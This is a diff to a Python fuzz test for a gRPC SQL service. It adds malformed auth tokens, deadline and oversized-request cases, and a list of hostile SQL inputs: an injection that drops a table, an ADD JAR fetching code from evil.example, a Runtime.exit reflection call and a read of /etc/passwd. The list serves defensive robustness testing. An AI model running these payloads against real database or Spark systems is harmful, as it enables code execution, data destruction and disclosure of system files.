@@ -8,6 +8,7 @@ import random
 import re
 import subprocess
 import sys
+from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -20,8 +21,12 @@ from tests.python.cases import cases
 from tests.python.endpoint import Endpoint, until
 
 from plait._proto import plait_pb2
-from plait.server import messages
+from plait.server import config, messages
+from plait.server.callers import digest
 from plait.server.failure import Failure, Place
+
+# What a call sends of its caller.
+Token = tuple[tuple[str, str], ...] | None
 
 if TYPE_CHECKING:
     from google.protobuf.message import Message
@@ -38,7 +43,7 @@ METHODS = {
 Codes = grpc.StatusCode
 CALM = {
     *(Codes.OK, Codes.INVALID_ARGUMENT, Codes.NOT_FOUND, Codes.ALREADY_EXISTS),
-    *(Codes.CANCELLED, Codes.OUT_OF_RANGE),
+    *(Codes.CANCELLED, Codes.OUT_OF_RANGE, Codes.FAILED_PRECONDITION),
 }
 
 LIMITS = {
@@ -112,38 +117,93 @@ def test_reflection_lists_the_service(channel: grpc.Channel) -> None:
     assert {"plait.v1.PlaitService", "grpc.health.v1.Health"} <= names
 
 
-def call(channel: grpc.Channel, method: str, payload: bytes) -> grpc.StatusCode:
+def call(
+    channel: grpc.Channel, method: str, payload: bytes, token: Token = None, seconds: float = 20
+) -> grpc.StatusCode:
     """Send bytes, and tell how the call ended; a result is left after its first messages."""
     path = f"/plait.v1.PlaitService/{method}"
     try:
         if METHODS[method]:
-            answers = channel.unary_stream(path)(payload, timeout=20)
+            answers = channel.unary_stream(path)(payload, timeout=seconds, metadata=token)
             for _ in zip(range(3), answers, strict=False):
                 pass
             answers.cancel()
         else:
-            channel.unary_unary(path)(payload, timeout=20)
+            channel.unary_unary(path)(payload, timeout=seconds, metadata=token)
     except grpc.RpcError as error:
         assert "its log tells why" not in error.details(), (method, payload)
         return error.code()
     return Codes.OK
 
 
+@pytest.fixture(scope="module")
+def guarded() -> Iterator[grpc.Channel]:
+    """A channel to a server that asks for tokens."""
+    endpoint = Endpoint.start(tokens=(config.Token("t", digest("known"), config.SCOPES),), **LIMITS)
+    with grpc.insecure_channel(f"localhost:{endpoint.port}") as channel:
+        yield channel
+    assert endpoint.engine.sessions == 0
+    endpoint.stop()
+
+
 def test_no_request_however_malformed_crashes_or_hangs_the_server(
-    endpoint: Endpoint, channel: grpc.Channel
+    endpoint: Endpoint, channel: grpc.Channel, guarded: grpc.Channel
 ) -> None:
     random_ = random.Random(20260131)
-    seen: dict[grpc.StatusCode, int] = {}
-    for _ in range(REQUESTS):
+    kinds = {"malformed": CALM, "huge": CALM, "late": CALM | {Codes.DEADLINE_EXCEEDED}}
+    kinds["unknown"] = {Codes.UNAUTHENTICATED}
+    seen: dict[str, Counter[grpc.StatusCode]] = {kind: Counter() for kind in kinds}
+    for number in range(REQUESTS):
         method = random_.choice(list(METHODS))
-        code = call(channel, method, malformed(random_, method))
-        seen[code] = seen.get(code, 0) + 1
-    # What is no message of the contract never comes to the service: gRPC says INTERNAL or UNKNOWN.
-    assert set(seen) <= CALM | {Codes.INTERNAL, Codes.UNKNOWN}, seen
-    assert seen[Codes.INVALID_ARGUMENT] > REQUESTS / 20
+        payload = malformed(random_, method)
+        match number % 50:
+            case 0 | 1 | 2 | 3 | 4:
+                token = bad_token(random_)
+                seen["unknown"][call(guarded, method, payload, token)] += 1
+            case 5 | 6:
+                seconds = random_.choice([-1.0, 1e-6, 1e-3])
+                seen["late"][call(channel, method, payload, seconds=seconds)] += 1
+            case 7:
+                seen["huge"][call(channel, method, huge(random_, method))] += 1
+            case _:
+                seen["malformed"][call(channel, method, payload)] += 1
+    for kind, allowed in kinds.items():
+        assert set(seen[kind]) <= allowed, (kind, seen)
+    assert seen["malformed"][Codes.INVALID_ARGUMENT] > REQUESTS / 20
+    assert seen["late"][Codes.DEADLINE_EXCEEDED] > REQUESTS / 200
+    assert seen["huge"][Codes.INVALID_ARGUMENT] > REQUESTS / 500
     assert endpoint.client().sql("rows 2").arrow().num_rows == 6
     assert until(lambda: endpoint.counts("running") == 0)
     assert until(lambda: endpoint.counts("operations") == 0)
+
+
+def bad_token(random_: random.Random) -> Token:
+    """Make headers that hold no token that the server knows."""
+    header = random_.choice(
+        [
+            "",
+            "Bearer",
+            "Bearer ",
+            "Bearer known ledge",
+            "Basic known",
+            "known",
+            "Bearer " + "k" * 4096,
+        ]
+    )
+    name = random_.choice(["authorization", "authorization", "authorisation"])
+    return () if random_.random() < 0.1 else ((name, header),)
+
+
+def huge(random_: random.Random, method: str) -> bytes:
+    """Make a request of which every text has up to some megabytes."""
+    request = wrong(random_, method)
+    for field in request.DESCRIPTOR.fields:
+        is_text = field.type == field.TYPE_STRING and field.message_type is None
+        if is_text and isinstance(getattr(request, field.name), str):
+            setattr(request, field.name, "x" * random_.choice([0, 5_000, 3 << 20]))
+    if hasattr(request, "positional"):
+        request.positional.extend([plait_pb2.Value(string="x" * (1 << 20))] * 3)
+    return request.SerializeToString()
 
 
 def malformed(random_: random.Random, method: str) -> bytes:
@@ -192,6 +252,16 @@ def _fill_stream(random_: random.Random, request: plait_pb2.StartStreamRequest) 
             request.trigger.available_now.SetInParent()
 
 
+# As the engine has no Spark, what is seen here is that they go through the server as they are.
+HOSTILE = [
+    "'; DROP TABLE t; --",
+    "ADD JAR 'http://evil.example/x.jar'",
+    "SELECT reflect('java.lang.Runtime', 'exit', 1)",
+    "SELECT * FROM parquet.`/etc/passwd`",
+    "SELECT " + "(" * 20_000,
+    "/* \u202e */ SELECT 1 \ud7ff\x07\x1b[2J",
+]
+
 NAMES = ["", "o", "o" * 200, "{}", "ü"]
 WRONG_FIELDS: dict[str, list[object]] = {
     "session": ["", "s", "s", "s" * 129, "a b", "ü", "\x00", "s/../t"],
@@ -203,7 +273,8 @@ WRONG_FIELDS: dict[str, list[object]] = {
     "after": [0, 1, (1 << 64) - 1],
     "kept_only": [True, True, False],
     "prepared": ["", "", "", *NAMES],
-    "sql": ["", " ", "rows 1", "fail", "\x00", "rows 1;" * 1000, "do x", ":a :b"],
+    "sql": ["", " ", "rows 1", "fail", "\x00", "rows 1;" * 1000, "do x", ":a :b", *HOSTILE],
+    "server": ["", "", "", "x", "ü" * 500],
     "reattachable": [False] * 9 + [True],
     "stack": [False, True],
     "next_offset": [0, 1, (1 << 64) - 1],
